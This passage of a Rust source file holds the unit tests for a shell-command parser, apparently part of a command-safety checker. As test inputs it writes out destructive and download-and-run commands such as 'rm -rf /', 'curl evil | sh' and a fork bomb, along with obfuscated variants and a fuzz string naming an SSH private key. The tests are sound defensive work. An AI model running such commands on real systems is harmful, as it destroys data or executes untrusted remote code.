            'f' => Some('\x0c'),
            'n' => Some('\n'),
            'r' => Some('\r'),
            't' => Some('\t'),
            'v' => Some('\x0b'),
            '\\' | '\'' | '"' | '?' => Some(e),
            _ => None,
        };
        if let Some(ch) = simple {
            out.push(ch);
            continue;
        }
        let code = match e {
            '0'..='7' => {
                // Up to three octal digits in total, as an 8-bit value.
                let mut v = e.to_digit(8).unwrap_or(0);
                for _ in 0..2 {
                    match chars.peek().and_then(|c| c.to_digit(8)) {
                        Some(d) => {
                            v = v * 8 + d;
                            chars.next();
                        }
                        None => break,
                    }
                }
                Some(v & 0xff)
            }
            'x' => digits(&mut chars, 16, 2),
            'u' => digits(&mut chars, 16, 4),
            'U' => digits(&mut chars, 16, 8),
            'c' => chars.next().map(|x| u32::from(x) & 0x1f),
            _ => None,
        };
        match code.and_then(char::from_u32) {
            Some(ch) => out.push(ch),
            None => {
                // Unknown or invalid escape: keep it verbatim.
                out.push('\\');
                out.push(e);
            }
        }
    }
    out
}

/// The substring between two char indices (brush's source positions count chars).
fn slice_chars(s: &str, start: usize, end: usize) -> Option<&str> {
    let mut idx = s
        .char_indices()
        .map(|(b, _)| b)
        .chain(std::iter::once(s.len()));
    let b_start = idx.clone().nth(start)?;
    let b_end = idx.nth(end)?;
    s.get(b_start..b_end)
}

#[cfg(test)]
#[allow(clippy::unwrap_used, clippy::expect_used)]
mod tests {
    use super::*;
    use std::time::{Duration, Instant};

    fn parse(s: &str) -> ParsedScript {
        match parse_script(s) {
            Ok(p) => p,
            Err(e) => panic!("failed to parse {s:?}: {e}"),
        }
    }

    /// Static words of a command (`<dyn>` for dynamic ones).
    fn words(c: &SimpleCommand) -> Vec<String> {
        c.words
            .iter()
            .map(|w| w.literal().unwrap_or_else(|| "<dyn>".to_owned()))
            .collect()
    }

    fn names(p: &ParsedScript) -> Vec<String> {
        p.commands
            .iter()
            .map(|c| c.static_name().unwrap_or_else(|| "<none>".to_owned()))
            .collect()
    }

    fn find<'a>(p: &'a ParsedScript, name: &str) -> &'a SimpleCommand {
        p.commands
            .iter()
            .find(|c| c.static_name().as_deref() == Some(name))
            .unwrap_or_else(|| panic!("no command {name}: {:?}", names(p)))
    }

    fn lit(s: &str) -> WordPiece {
        WordPiece::Literal(s.to_owned())
    }

    #[test]
    fn simple_command() {
        let p = parse("ls -la");
        assert_eq!(p.commands.len(), 1);
        let c = &p.commands[0];
        assert_eq!(words(c), ["ls", "-la"]);
        assert_eq!(c.depth, 0);
        assert!(!c.background);
        assert!(c.in_function.is_none());
        assert!(c.assignments.is_empty() && c.redirects.is_empty());
        assert_eq!(c.words[1].raw, "-la");
    }

    #[test]
    fn lists_and_background() {
        let p = parse("a && b || c; d &");
        assert_eq!(names(&p), ["a", "b", "c", "d"]);
        let bg: Vec<bool> = p.commands.iter().map(|c| c.background).collect();
        assert_eq!(bg, [false, false, false, true]);
        // Each command is its own pipeline.
        let mut ids: Vec<usize> = p.commands.iter().map(|c| c.pipeline_id).collect();
        ids.dedup();
        assert_eq!(ids.len(), 4);
        // `&` applies to the whole and-or list.
        let p = parse("a && b & c");
        let bg: Vec<bool> = p.commands.iter().map(|c| c.background).collect();
        assert_eq!(bg, [true, true, false]);
    }

    #[test]
    fn pipeline() {
        let p = parse("cat x | grep y | sh");
        assert_eq!(names(&p), ["cat", "grep", "sh"]);
        let id = p.commands[0].pipeline_id;
        assert!(p.commands.iter().all(|c| c.pipeline_id == id));
        let pos: Vec<usize> = p.commands.iter().map(|c| c.pipeline_pos).collect();
        assert_eq!(pos, [0, 1, 2]);
        // `|&` adds 2>&1 to the left side.
        let p = parse("make |& tee log");
        assert_eq!(p.commands[0].redirects[0].kind, RedirectKind::DupOut);
        assert_eq!(p.commands[0].redirects[0].fd, Some(2));
        assert_eq!(p.commands[1].pipeline_pos, 1);
    }

    #[test]
    fn subshell_adds_depth() {
        let p = parse("(cd /tmp && rm -rf x)");
        assert_eq!(names(&p), ["cd", "rm"]);
        assert!(p.commands.iter().all(|c| c.depth == 1));
        assert_eq!(words(&p.commands[1]), ["rm", "-rf", "x"]);
        // Brace groups do not.
        let p = parse("{ cd /tmp && rm -rf x; }");
        assert!(p.commands.iter().all(|c| c.depth == 0));
    }

    #[test]
    fn command_substitution() {
        let p = parse("echo $(rm -rf /)");
        assert_eq!(names(&p), ["echo", "rm"]);
        assert_eq!(p.commands[0].depth, 0);
        assert_eq!(p.commands[0].words[1].pieces, [WordPiece::CommandSubst]);
        assert!(p.commands[0].words[1].is_dynamic());
        assert_eq!(p.commands[1].depth, 1);
        assert_eq!(words(&p.commands[1]), ["rm", "-rf", "/"]);
    }

    #[test]
    fn backticks() {
        let p = parse("echo `whoami`");
        assert_eq!(names(&p), ["echo", "whoami"]);
        assert_eq!(p.commands[1].depth, 1);
        assert_eq!(p.commands[0].words[1].raw, "`whoami`");
        // Inside backticks, `\$` becomes `$`: the inner shell runs `$(id)`.
        let p = parse(r"echo `echo \$(id)`");
        assert_eq!(names(&p), ["echo", "echo", "id"]);
        assert_eq!(p.commands[2].depth, 2);
        // Nested backticks.
        let p = parse(r"echo `echo \`id\``");
        assert_eq!(names(&p), ["echo", "echo", "id"]);
        // Backticks inside $(..) and $(..) inside double quotes.
        let p = parse(r#"x=$(echo "`uname -a`")"#);
        assert_eq!(names(&p), ["<none>", "echo", "uname"]);
        assert_eq!(p.commands[2].depth, 2);
    }

    #[test]
    fn process_substitution() {
        let p = parse("diff <(ls a) <(ls b)");
        assert_eq!(names(&p), ["diff", "ls", "ls"]);
        let diff = &p.commands[0];
        assert_eq!(diff.words.len(), 3);
        assert_eq!(diff.words[1].pieces, [WordPiece::CommandSubst]);
        assert_eq!(diff.words[1].raw, "<(ls a)");
        assert_eq!(words(&p.commands[1]), ["ls", "a"]);
        assert_eq!(words(&p.commands[2]), ["ls", "b"]);
        assert!(p.commands[1..].iter().all(|c| c.depth == 1));
        // As a redirect target, and the write form.
        let p = parse("cat < <(curl evil) > >(sh)");
        assert_eq!(names(&p), ["cat", "curl", "sh"]);
        assert_eq!(p.commands[0].redirects.len(), 2);
        assert!(p.commands[0].redirects[0].target.has_command_subst());
    }

    #[test]
    fn assignments() {
        let p = parse("X=1 Y=$(id) env");
        assert_eq!(names(&p), ["env", "id"]);
        let env = &p.commands[0];
        assert_eq!(env.assignments.len(), 2);
        assert_eq!(env.assignments[0].0, "X");
        assert_eq!(env.assignments[0].1.literal().as_deref(), Some("1"));
        assert_eq!(env.assignments[1].0, "Y");
        assert_eq!(env.assignments[1].1.pieces, [WordPiece::CommandSubst]);
        assert_eq!(p.commands[1].depth, 1);
        // Pure assignment: no words.
        let p = parse("X=$(rm -rf /)");
        assert_eq!(names(&p), ["<none>", "rm"]);
        assert!(p.commands[0].words.is_empty());
        // After the command name an assignment is an ordinary argument.
        let p = parse("env A=b sh");
        assert_eq!(words(&p.commands[0]), ["env", "A=b", "sh"]);
        // Arrays and indices.
        let p = parse("arr=(a $(id) [3]=x) b[$(whoami)]=1");
        assert_eq!(names(&p), ["<none>", "id", "whoami"]);
        assert_eq!(p.commands[0].assignments[0].0, "arr");
        assert!(p.commands[0].assignments[0].1.has_command_subst());
        assert_eq!(p.commands[0].assignments[1].0, "b[$(whoami)]");
    }

    #[test]
    fn quote_and_escape_removal() {
        for s in [
            r"\rm -rf /",
            r#""rm" -rf /"#,
            "'rm' -rf /",
            r#"r""m -rf /"#,
            "r''m -rf /",
        ] {
            let p = parse(s);
            assert_eq!(p.commands.len(), 1, "{s}");
            assert_eq!(words(&p.commands[0]), ["rm", "-rf", "/"], "{s}");
            assert_eq!(p.commands[0].words[0].pieces, [lit("rm")], "{s}");
        }
        let p = parse(r#"r""m"#);
        assert_eq!(p.commands[0].static_name().as_deref(), Some("rm"));
        assert_eq!(p.commands[0].words[0].raw, r#"r""m"#);
        // ANSI-C quoting is decoded.
        let p = parse(r"$'\x72\x6d' -rf $'\057' $'a\nb' $'\162m'");
        assert_eq!(words(&p.commands[0]), ["rm", "-rf", "/", "a\nb", "rm"]);
        // Empty quotes are an empty literal word.
        let p = parse(r#"echo """#);
        assert_eq!(p.commands[0].words[1].literal().as_deref(), Some(""));
        // Escaped glob characters are literal.
        let p = parse(r"rm \* '*' x\?");
        assert!(p.commands[0].words.iter().all(|w| !w.has_glob()));
    }

    #[test]
    fn for_loop() {
        let p = parse("for f in $(ls); do rm $f; done");
        assert_eq!(names(&p), ["ls", "rm"]);
        assert_eq!(p.commands[0].depth, 1);
        let rm = &p.commands[1];
        assert_eq!(rm.depth, 0);
        assert_eq!(rm.words[1].pieces, [WordPiece::Param("f".to_owned())]);
        assert!(rm.words[1].is_dynamic());
        assert!(rm.words[1].literal().is_none());
        // Arithmetic for, with a substitution in the header: each expression is an
        // arithmetic command of its own (its names are checked like those of `(( … ))`).
        let p = parse("for ((i=$(id); i<3; i++)); do echo $i; done");
        assert_eq!(names(&p), ["((", "id", "((", "((", "echo"]);
    }

    #[test]
    fn if_while_until() {
        let p = parse("if grep -q x f; then curl x; fi");
        assert_eq!(names(&p), ["grep", "curl"]);
        let p = parse("if a; then b; elif c; then d; else e; fi");
        assert_eq!(names(&p), ["a", "b", "c", "d", "e"]);
        let p = parse("while read l; do sh -c \"$l\"; done; until x; do y; done");
        assert_eq!(names(&p), ["read", "sh", "x", "y"]);
        let p = parse("! ls | grep x; time ls | grep y");
        assert_eq!(names(&p), ["ls", "grep", "ls", "grep"]);
        // After `|`, `time` is an ordinary command name.
        let p = parse("ls | time grep x");
        assert_eq!(names(&p), ["ls", "time"]);
        let p = parse("time -p make");
        assert_eq!(names(&p), ["make"]);
    }

    #[test]
    fn case_statement() {
        let p = parse("case $x in a) rm a;; esac");
        assert_eq!(names(&p), ["rm"]);
        assert_eq!(words(&p.commands[0]), ["rm", "a"]);
        let p = parse("case $(id) in $(whoami)) a;; (b|c) b;& *) c;;& esac");
        assert_eq!(names(&p), ["id", "whoami", "a", "b", "c"]);
    }

    #[test]
    fn functions() {
        let p = parse("f() { rm -rf /; }; f");
        assert_eq!(p.functions, ["f"]);
        assert_eq!(names(&p), ["rm", "f"]);
        assert_eq!(p.commands[0].in_function.as_deref(), Some("f"));
        assert!(p.commands[1].in_function.is_none());
        let p = parse("function g { h() { x; }; y; }");
        assert_eq!(p.functions, ["g", "h"]);
        assert_eq!(p.commands[0].in_function.as_deref(), Some("h"));
        assert_eq!(p.commands[1].in_function.as_deref(), Some("g"));
    }

    #[test]
    fn fork_bomb() {
        let p = parse(":(){ :|:& };:");
        assert_eq!(p.functions, [":"]);
        assert_eq!(names(&p), [":", ":", ":"]);
        let inside: Vec<&SimpleCommand> = p
            .commands
            .iter()
            .filter(|c| c.in_function.as_deref() == Some(":"))
            .collect();
        assert_eq!(inside.len(), 2);
        assert!(inside.iter().all(|c| c.background));
        assert_eq!(inside[0].pipeline_id, inside[1].pipeline_id);
        assert_eq!(inside[1].pipeline_pos, 1);
        let call = &p.commands[2];
        assert!(call.in_function.is_none() && !call.background);
    }

    #[test]
    fn coproc_is_background() {
        let p = parse("coproc ls; coproc w { rm x; }");
        assert_eq!(names(&p), ["ls", "rm"]);
        assert!(p.commands.iter().all(|c| c.background));
    }

    #[test]
    fn heredoc() {
        let p = parse("bash <<EOF\nrm -rf /\nEOF");
        assert_eq!(names(&p), ["bash"]);
        let c = &p.commands[0];
        assert_eq!(c.stdin_text.as_deref(), Some("rm -rf /\n"));
        assert_eq!(c.redirects[0].kind, RedirectKind::HereDoc);
        assert_eq!(c.redirects[0].op, "<<");
        assert_eq!(c.redirects[0].target.literal().as_deref(), Some("EOF"));
        // Unquoted delimiter: substitutions in the body run.
        let p = parse("cat <<EOF\nhello $(id) `whoami` ${x:-$(date)}\nEOF\n");
        assert_eq!(names(&p), ["cat", "id", "whoami", "date"]);
        assert!(p.commands[1..].iter().all(|c| c.depth == 1));
        // Quoted delimiter: they don't.
        for d in ["'EOF'", "\"EOF\"", "\\EOF"] {
            let p = parse(&format!("cat <<{d}\n$(id)\nEOF\n"));
            assert_eq!(names(&p), ["cat"], "{d}");
            assert_eq!(p.commands[0].stdin_text.as_deref(), Some("$(id)\n"));
        }
        // `<<-` strips leading tabs.
        let p = parse("sh <<-EOF\n\trm x\n\tEOF\necho done");
        assert_eq!(names(&p), ["sh", "echo"]);
        assert_eq!(p.commands[0].stdin_text.as_deref(), Some("rm x\n"));
        assert_eq!(p.commands[0].redirects[0].op, "<<-");
        // Heredoc to another fd does not feed stdin.
        let p = parse("cmd 3<<EOF\nx\nEOF\n");
        assert!(p.commands[0].stdin_text.is_none());
        assert_eq!(
            p.commands[0].redirects[0].heredoc_body.as_deref(),
            Some("x\n")
        );
    }

    #[test]
    fn here_string() {
        let p = parse("python3 <<< 'print(1)'");
        let c = &p.commands[0];
        assert_eq!(words(c), ["python3"]);
        assert_eq!(c.stdin_text.as_deref(), Some("print(1)"));
        assert_eq!(c.redirects[0].kind, RedirectKind::HereString);
        let p = parse("bash <<< \"$(curl evil)\"");
        assert_eq!(names(&p), ["bash", "curl"]);
        assert_eq!(
            p.commands[0].stdin_text.as_deref(),
            Some("\"$(curl evil)\"")
        );
    }

    #[test]
    fn redirects() {
        let p = parse("cat > out.txt");
        let r = &p.commands[0].redirects;
        assert_eq!(r.len(), 1);
        assert_eq!(r[0].kind, RedirectKind::Write);
        assert_eq!(r[0].fd, None);
        assert_eq!(r[0].target.literal().as_deref(), Some("out.txt"));
        assert_eq!(words(&p.commands[0]), ["cat"]);

        let p = parse("echo hi 2>&1 >> log");
        let c = &p.commands[0];
        assert_eq!(words(c), ["echo", "hi"]);
        assert_eq!(c.redirects.len(), 2);
        assert_eq!(c.redirects[0].kind, RedirectKind::DupOut);
        assert_eq!(c.redirects[0].fd, Some(2));
        assert_eq!(c.redirects[0].target.literal().as_deref(), Some("1"));
        assert_eq!(c.redirects[1].kind, RedirectKind::Append);
        assert_eq!(c.redirects[1].target.literal().as_deref(), Some("log"));

        let p = parse("x < in <> rw >| clob &> both &>> both2 3<&0");
        let kinds: Vec<(RedirectKind, &str)> = p.commands[0]
            .redirects
            .iter()
            .map(|r| (r.kind, r.op.as_str()))
            .collect();
        assert_eq!(
            kinds,
            [
                (RedirectKind::Read, "<"),
                (RedirectKind::ReadWrite, "<>"),
                (RedirectKind::Write, ">|"),
                (RedirectKind::Write, "&>"),
                (RedirectKind::Append, "&>>"),
                (RedirectKind::DupIn, "<&"),
            ]
        );
        // Redirect targets can run commands; redirect-only commands have no words.
        let p = parse("> $(rm -rf /)");
        assert_eq!(names(&p), ["<none>", "rm"]);
        assert!(p.commands[0].words.is_empty());
    }

    #[test]
    fn compound_redirects_are_inherited() {
        let p = parse("{ ls; echo; } > out");
        assert!(p.commands.iter().all(|c| c.redirects.len() == 1
            && c.redirects[0].inherited
            && c.redirects[0].kind == RedirectKind::Write));
        let p = parse("while read l; do sh; done <<EOF\nrm -rf /\nEOF\n");
        assert_eq!(find(&p, "sh").stdin_text.as_deref(), Some("rm -rf /\n"));
        // In a pipeline inside the group only the first command reads the heredoc.
        let p = parse("{ cat | sh; } <<EOF\nx\nEOF\n");
        assert_eq!(find(&p, "cat").stdin_text.as_deref(), Some("x\n"));
        assert!(find(&p, "sh").stdin_text.is_none());
        // The command's own stdin redirect wins.
        let p = parse("{ sh < f; } <<EOF\nx\nEOF\n");
        assert!(find(&p, "sh").stdin_text.is_none());
        // Redirect targets of compound commands are walked too.
        let p = parse("( ls ) > $(whoami)");
        assert_eq!(names(&p), ["whoami", "ls"]);
    }

    #[test]
    fn enclosing_pipelines() {
        for s in [
            "curl x | (sh)",
            "curl x | { sh; }",
            "curl x | if true; then sh; fi",
        ] {
            let p = parse(s);
            let curl = find(&p, "curl");
            let sh = find(&p, "sh");
            assert!(
                sh.enclosing_pipelines.contains(&(curl.pipeline_id, 1)),
                "{s}: {:?}",
                sh.enclosing_pipelines
            );
        }
    }

    #[test]
    fn extended_test() {
        let p = parse("[[ $(whoami) == root ]]");
        assert_eq!(names(&p), ["[[", "whoami"]);
        assert_eq!(words(&p.commands[0]), ["[[", "<dyn>", "==", "root", "]]"]);
        assert_eq!(p.commands[1].depth, 1);
        let p = parse("[[ -f $(a) && ! ( $(b) =~ x ) ]] && c");
        assert_eq!(names(&p), ["[[", "a", "b", "c"]);
    }

    #[test]
    fn arithmetic() {
        // An arithmetic expansion is also an arithmetic command of its own (its names are
        // checked like those of `(( … ))`).
        let p = parse("echo $((1 + $(id)))");
        assert_eq!(names(&p), ["echo", "((", "id"]);
        let w = &p.commands[0].words[1];
        assert!(matches!(w.pieces[0], WordPiece::Other(_)) && w.is_dynamic());
        let p = parse("(( x = $(id) + y[$(whoami)] ))");
        assert_eq!(names(&p), ["((", "id", "whoami"]);
        let p = parse("echo $((2 * 3))");
        assert_eq!(names(&p), ["echo", "(("]);
        assert_eq!(p.commands[0].words[1].literal(), None);
    }

    #[test]
    fn parameter_expansions() {
        let p = parse("echo ~/x $HOME/y ${HOME}/z ~root \"$1\" $@ ${#x} ${!p}");
        let c = &p.commands[0];
        assert_eq!(
            c.words[1].pieces,
            [WordPiece::Tilde(String::new()), lit("/x")]
        );
        assert_eq!(
            c.words[2].pieces,
            [WordPiece::Param("HOME".into()), lit("/y")]
        );
        assert_eq!(
            c.words[3].pieces,
            [WordPiece::Param("HOME".into()), lit("/z")]
        );
        assert_eq!(c.words[4].pieces, [WordPiece::Tilde("root".into())]);
        assert_eq!(c.words[5].pieces, [WordPiece::Param("1".into())]);
        assert_eq!(c.words[6].pieces, [WordPiece::Param("@".into())]);
        // Length and indirection compute a value: never the variable's own.
        assert_eq!(c.words[7].pieces, [WordPiece::Other("${x…}".into())]);
        assert_eq!(c.words[8].pieces, [WordPiece::Other("${p…}".into())]);
        assert!(c.words[1].literal().is_none() && !c.words[1].is_dynamic());
        assert!(c.words[2].is_dynamic());
        // Substitutions hidden in expansion operands are extracted.
        let p =
            parse("echo ${X:-$(rm -rf /)} \"${y:=`id`}\" ${z/$(a)/$(b)} ${w:$(c):1} ${v[$(d)]}");
        assert_eq!(names(&p), ["echo", "rm", "id", "a", "b", "c", "d"]);
        assert_eq!(
            p.commands[0].words[1].pieces,
            [WordPiece::Other("${X…}".into()), WordPiece::CommandSubst]
        );
        // Every operator makes the word unknown, whatever the variable.
        for expansion in [
            "${PWD:0:0}",
            "${PWD%/x}",
            "${PWD%%/*}",
            "${PWD#/}",
            "${PWD##*/}",
            "${PWD/a/b}",
            "${PWD//a/b}",
            "${PWD^}",
            "${PWD^^}",
            "${PWD,}",
            "${PWD,,}",
            "${PWD@Q}",
            "${#PWD}",
            "${PWD:-x}",
            "${PWD:=x}",
            "${PWD:?x}",
            "${PWD:+x}",
            "${PWD-x}",
            "${!PWD}",
            "${a[0]}",
            "${a[@]}",
            "${a[@]:1}",
        ] {
            let p = parse(&format!("{expansion}rm -rf x"));
            let word = &p.commands[0].words[0];
            assert!(
                word.pieces
                    .iter()
                    .all(|p| !matches!(p, WordPiece::Param(_))),
                "{expansion}: {:?}",
                word.pieces
            );
            assert!(word.is_dynamic(), "{expansion}");
        }
    }

    #[test]
    fn double_quoted_substitution() {
        let p = parse("echo \"$(curl evil | sh)\"");
        assert_eq!(names(&p), ["echo", "curl", "sh"]);
        assert_eq!(p.commands[1].pipeline_id, p.commands[2].pipeline_id);
        assert_eq!(p.commands[2].pipeline_pos, 1);
        assert!(p.commands[1..].iter().all(|c| c.depth == 1));
        assert_eq!(p.commands[0].words[1].pieces, [WordPiece::CommandSubst]);
        // The substitution's commands know which pipeline they are nested in.
        assert_eq!(
            p.commands[1].enclosing_pipelines,
            [(p.commands[0].pipeline_id, 0)]
        );
    }

    #[test]
    fn quoted_message_is_literal() {
        let p = parse("git commit -m \"rm -rf /\"");
        assert_eq!(p.commands.len(), 1);
        assert_eq!(words(&p.commands[0]), ["git", "commit", "-m", "rm -rf /"]);
        assert_eq!(p.commands[0].words[3].pieces, [lit("rm -rf /")]);
        assert_eq!(p.commands[0].words[3].raw, "\"rm -rf /\"");
        // Single quotes never expand.
        let p = parse("echo '$(rm -rf /)' \"\\$(id)\"");
        assert_eq!(names(&p), ["echo"]);
        assert_eq!(words(&p.commands[0]), ["echo", "$(rm -rf /)", "$(id)"]);
        // Comments are ignored.
        let p = parse("echo hi # $(rm -rf /)");
        assert_eq!(names(&p), ["echo"]);
    }

    #[test]
    fn globs_and_braces() {
        let p = parse("rm -rf *.txt a?b [ab]c @(x|y) /{etc,usr} {} {a} x{1..3}");
        let w = &p.commands[0].words;
        assert_eq!(w[2].pieces, [WordPiece::Glob("*".into()), lit(".txt")]);
        assert!(w[2].has_glob() && !w[2].is_dynamic());
        assert_eq!(w[2].literal().as_deref(), Some("*.txt"));
        assert!(w[3].has_glob() && w[4].has_glob() && w[5].has_glob());
        // Brace expansion multiplies words: not static.
        assert!(w[6].literal().is_none() && w[6].is_dynamic());
        assert_eq!(w[7].literal().as_deref(), Some("{}"));
        assert_eq!(w[8].literal().as_deref(), Some("{a}"));
        assert!(w[9].is_dynamic());
        let p = parse("{rm,-rf,/}");
        assert!(p.commands[0].static_name().is_none());
    }

    #[test]
    fn errors() {
        for s in [
            "echo \"unterminated",
            "echo 'unterminated",
            "echo $(unterminated",
            "echo `unterminated",
            "if true; then",
            "cat <<EOF\nno end",
            "( ls",
            "ls )",
            "| ls",
        ] {
            assert!(parse_script(s).is_err(), "{s:?} should fail");
        }
        let e = parse_script("echo \"x").unwrap_err();
        assert!(e.to_string().contains("double quote"), "{e}");
    }

    #[test]
    fn empty_and_blank() {
        for s in ["", "   ", "\n\n", "# just a comment\n"] {
            let p = parse(s);
            assert!(p.commands.is_empty() && p.functions.is_empty(), "{s:?}");
        }
    }

    #[test]
    fn nested_substitution_depths() {
        let p = parse("echo $(echo $(echo $(echo $(id))))");
        let depths: Vec<usize> = p.commands.iter().map(|c| c.depth).collect();
        assert_eq!(depths, [0, 1, 2, 3, 4]);
        assert_eq!(p.commands[4].static_name().as_deref(), Some("id"));
        let p = parse("( ( echo $( (id) ) ) )");
        assert_eq!(find(&p, "id").depth, 4);
        assert_eq!(find(&p, "echo").depth, 2);
        // Not arithmetic: the parentheses are not adjacent on both ends.
        for s in ["( (rm -rf /) )", "((rm -rf /) )", "( (rm -rf /))"] {
            let p = parse(s);
            assert_eq!(names(&p), ["rm"], "{s}");
            assert_eq!(p.commands[0].depth, 2, "{s}");
        }
        let p = parse("echo $((echo hi) ) $( (id) )");
        assert_eq!(names(&p), ["echo", "echo", "id"]);
        // Real arithmetic stays arithmetic.
        let p = parse("((i++)); (( j = 2 ))");
        assert_eq!(names(&p), ["((", "(("]);
    }

    #[test]
    fn depth_limit() {
        let ctx = Ctx {
            depth: MAX_DEPTH,
            nesting: 0,
            src: Rc::from(""),
            in_function: None,
            background: false,
            pipelines: Vec::new(),
            inherited_redirects: Rc::default(),
            inherited_stdin: None,
        };
        assert!(ctx.deeper().is_err());
        // Too many substitutions nested in one word.
        let deep = format!("echo {}id{}", "$(echo ".repeat(12), ")".repeat(12));
        assert!(parse_script(&deep).is_err());
    }

    #[test]
    fn heredoc_delimiters_that_hang_brush_are_errors() {
        for s in [
            "<<\r ",
            "<< \r ",
            "<<- \r ",
            "<<\u{c} ",
            "rm x; cat <<\r |",
            "$(<<\t ",
            "<<$(  ",
            "&$( <<-\t do [ x ",
            "]$(-exec << ;;env$ x ",
            "a $( env << &= ",
            "cat <<'' ",
            "]]\\<<<x=1$(\t then",
            "&& <<\" \\;\rfind $( >a 日本語 ",
            "ifdone $( \\; <<<<<- )-exec? ",
            ".claude $( *<<- $(( ||  esac",
            "find<<$(( <rm$1 ",
            "/ <<{}\rsudodo-rfEOF$( \t ]] ~/.ssh/id_rsa ",
            "<(-c ~ <<-$HOME$( <<<} ",
            "$HOME <<- ]]]$((   >>> ",
            "<<-=\\ $( ; {} &\\ é \\x=1 ",
            "done <<\\ #$(  $ || ! ",
            "\0<<-\\;$(( ||$'\\x72m'then",
        ] {
            let started = std::time::Instant::now();
            assert!(parse_script(s).is_err(), "{s:?}");
            assert!(started.elapsed() < Duration::from_secs(1), "{s:?}");
        }
        // Here-strings and ordinary heredocs are unaffected.
        assert!(parse_script("cat <<< \r").is_ok());
        assert!(parse_script("cat <<EOF\nx\nEOF\n").is_ok());
        assert!(parse_script("cat <<- 'EOF'\n\tx\nEOF\n").is_ok());
        assert!(parse_script("echo $((1 << $n)) $(( 2<<3 ))").is_ok());
        assert!(parse_script("grep x <<< \"$(ls)\"; cat <<<'a b'").is_ok());
        assert!(parse_script("cat <<\\EOF\n$x\nEOF\n").is_ok());
    }

    #[test]
    fn brush_panics_become_errors() {
        // Both would hit `unwrap()`s inside brush-parser.
        assert!(parse_script("echo 99999999999>x").is_err());
        assert!(parse_script("echo ~99999999999999999999999").is_err());
        // `2>x` style fds still work.
        assert_eq!(parse("echo 2>x").commands[0].redirects[0].fd, Some(2));
    }

    /// Inputs that would overflow the stack or backtrack exponentially in brush.
    #[test]
    fn adversarial_inputs_fail_fast() {
        let cases = [
            "(".repeat(30),
            "( ".repeat(100_000),
            "{ ".repeat(10_000),
            "if x; then ".repeat(2_000),
            "$(".repeat(5_000),
            "${x:-".repeat(5_000),
            "case x in a) ".repeat(20),
            format!("echo {}x", "$(echo @(a|".repeat(6)),
            format!("echo {}\"$\"y\"{}", "$(echo @(a|".repeat(6), "))".repeat(6)),
            format!("echo {}b", "x{a,{".repeat(40)),
            format!("[[ {}x ]]", "( ".repeat(5_000)),
            format!("echo $(({}1{}))", "(".repeat(5_000), ")".repeat(5_000)),
        ];
        for s in &cases {
            let start = Instant::now();
            let _ = parse_script(s);
            assert!(
                start.elapsed() < Duration::from_secs(3),
                "{}... took {:?}",
                s.chars().take(40).collect::<String>(),
                start.elapsed()
            );
        }
    }

    #[test]
    fn repeated_heredoc_text_is_bounded() {
        // Without a budget every `a` would get its own copy of the 400 KB body.
        let s = format!(
            "{{ {} }} <<EOF\n{}\nEOF\n",
            "a;".repeat(20_000),
            "x".repeat(400_000)
        );
        let start = Instant::now();
        let err = parse_script(&s).unwrap_err();
        assert!(err.message.contains("heredoc"), "{err}");
        assert!(start.elapsed() < Duration::from_secs(4));
        // A normal amount of inheritance is fine.
        let p = parse("{ a; b; } <<EOF\nhello\nEOF\n");
        assert!(
            p.commands
                .iter()
                .all(|c| c.stdin_text.as_deref() == Some("hello\n"))
        );
    }

    /// xorshift; deterministic garbage without extra dependencies.
    fn garbage(seed: u64, len: usize, alphabet: &[&str]) -> String {
        let mut x = seed | 1;
        let mut s = String::new();
        while s.len() < len {
            x ^= x << 13;
            x ^= x >> 7;
            x ^= x << 17;
            s.push_str(alphabet[(x % alphabet.len() as u64) as usize]);
        }
        s
    }

    #[test]
    fn random_garbage_never_panics() {
        let bytes: Vec<String> = (1u8..=127).map(|b| char::from(b).to_string()).collect();
        let ascii: Vec<&str> = bytes
            .iter()
            .map(String::as_str)
            .chain(["é", "€", "𝄞"])
            .collect();
        let shellish = [
            "(", ")", "$(", "${", "}", "{ ", "`", "'", "\"", "\\", " ", "x", ";", ";;", "&", "|",
            "<", ">", "<<", "EOF\n", "\n", "case ", " in ", "esac", "if ", "then ", "fi", "[[ ",
            " ]]", "((", "))", "$((", "@(", "*", "?", "[", "]", "~", "=", "a=(", "$'", "<(",
            "2>&1", "<<<", "do ", "done", "for ", "f() ", "!", ",", "..",
        ];
        let mut oks = 0;
        for seed in 1..=20u64 {
            for (alphabet, name) in [(&ascii[..], "ascii"), (&shellish[..], "shellish")] {
                let s = garbage(seed * 7919, 10_000, alphabet);
                let start = Instant::now();
                if parse_script(&s).is_ok() {
                    oks += 1;
                }
                assert!(
                    start.elapsed() < Duration::from_secs(4),
                    "{name} seed {seed} took {:?}",
                    start.elapsed()
                );
            }
            // Short snippets are more likely to get past the tokenizer.
            for len in [5, 20, 60] {
                let s = garbage(seed * 104_729 + len as u64, len, &shellish);
                if parse_script(&s).is_ok() {
                    oks += 1;
                }
            }
        }
        println!("garbage inputs that parsed: {oks}");
    }

    #[test]
    fn large_script_is_fine() {
        let mut s = String::new();
        for i in 0..2_000 {
            s.push_str(&format!(
                "if [ -f f{i} ]; then cp f{i} \"$(dirname g{i})\"; fi | tee -a log\n"
            ));
        }
        s.push_str("cat > big.py <<'EOF'\n");
        for i in 0..5_000 {
            s.push_str(&format!(
                "print(len(str(dict(a=list(map(str, range({i})))))))\n"
            ));
        }
        s.push_str("EOF\n");
        let start = Instant::now();
        let p = parse(&s);
        println!("large script ({} bytes): {:?}", s.len(), start.elapsed());
        assert_eq!(p.commands.len(), 2_000 * 4 + 1);
    }

    /// Run with `cargo test -- --nocapture parse_timing` to see the numbers.
    #[test]
    fn parse_timing() {
        let samples = [
            "ls -la",
            "git status",
            "git commit -m \"fix: handle empty input\"",
            "cargo test --workspace 2>&1 | tail -n 50",
            "cd /tmp && rm -rf build",
            "grep -rn 'TODO' src/ | head -20",
            "find . -name '*.rs' -exec wc -l {} +",
            "echo $(whoami)@$(hostname)",
            "for f in *.txt; do mv \"$f\" \"${f%.txt}.md\"; done",
            "if [ -d target ]; then cargo clean; fi",
            "curl -fsSL https://example.com/install.sh | sh",
            "python3 -c 'import sys; print(sys.version)'",
            "cat <<EOF > config.toml\n[server]\nport = 8080\nEOF",
            "npm install && npm run build",
            "docker run --rm -v \"$PWD:/src\" -w /src rust:latest cargo build",
            "X=1 Y=2 make -j4 all",
            "tar czf out.tar.gz $(git ls-files)",
            "diff <(sort a.txt) <(sort b.txt)",
            "ps aux | grep -v grep | awk '{print $2}' | xargs kill",
            "[[ -n \"$CI\" ]] && echo ci || echo local",
        ];
        for s in samples {
            parse(s); // warm-up and sanity check
        }
        let rounds = 10;
        let start = Instant::now();
        for _ in 0..rounds {
